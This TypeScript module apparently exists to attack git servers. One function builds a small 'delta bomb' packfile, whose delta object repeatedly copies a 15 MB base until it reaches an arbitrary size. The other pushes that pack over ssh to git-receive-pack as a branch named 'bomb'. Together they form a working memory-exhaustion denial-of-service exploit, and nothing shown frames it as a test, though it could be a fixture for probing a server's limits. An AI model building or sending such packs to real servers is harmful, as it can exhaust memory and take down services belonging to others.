import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

const blob = 3;
const refDelta = 7;

/** Size of an object in a pack: four bits beside the type, then seven a byte. */
function header(type: number, size: number): Buffer {
  const bytes = [(type << 4) | (size & 15)];
  for (let rest = Math.floor(size / 16); rest > 0; rest = Math.floor(rest / 128)) {
    bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) | 128;
    bytes.push(rest & 127);
  }
  return Buffer.from(bytes);
}

function varint(size: number): Buffer {
  const bytes: number[] = [];
  let rest = size;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}

/**
 * A pack of some 15 kB (gitformat-pack(5)) whose second object is a delta: "copy the first 15 MB of the base" so often that the object
 * has `bytes` bytes. Whoever unpacks it holds it in memory.
 */
export function deltaBomb(bytes: number): Buffer {
  const base = Buffer.alloc(15 << 20);
  const id = createHash("sha1").update(`blob ${base.length}\0`).update(base).digest();
  const copies = Math.floor(bytes / base.length);
  // Offset 0; three bytes of size, the lowest first.
  const copy = Buffer.from([128 | 16 | 32 | 64, base.length & 255, (base.length >> 8) & 255, base.length >> 16]);
  const delta = Buffer.concat([
    varint(base.length),
    varint(copies * base.length),
    ...Array.from({ length: copies }, () => copy),
  ]);
  const body = Buffer.concat([
    Buffer.from("PACK\0\0\0\x02\0\0\0\x02", "latin1"),
    header(blob, base.length),
    deflateSync(base, { level: 9 }),
    header(refDelta, delta.length),
    id,
    deflateSync(delta),
  ]);
  return Buffer.concat([body, createHash("sha1").update(body).digest()]);
}

/** Pushes a pack as a new branch of `commit`, by git's own protocol (gitprotocol-pack(5)). Resolves with all that was answered. */
export function pushPack(
  ssh: readonly string[],
  env: NodeJS.ProcessEnv,
  commit: string,
  pack: Buffer,
): Promise<string> {
  const [command = "ssh", ...args] = ssh;
  const child = spawn(command, [...args, "git-receive-pack 'blog'"], { env });
  const want = `${"0".repeat(40)} ${commit} refs/heads/bomb\0report-status`;
  const line = (text: string) => (text.length + 4).toString(16).padStart(4, "0") + text;
  child.stdin.on("error", () => undefined);
  child.stdin.end(Buffer.concat([Buffer.from(`${line(want)}0000`, "latin1"), pack]));
  let output = "";
  for (const stream of [child.stdout, child.stderr])
    stream.on("data", (data) => {
      output += data;
    });
  return new Promise((resolve) => child.on("close", () => resolve(output)));
}
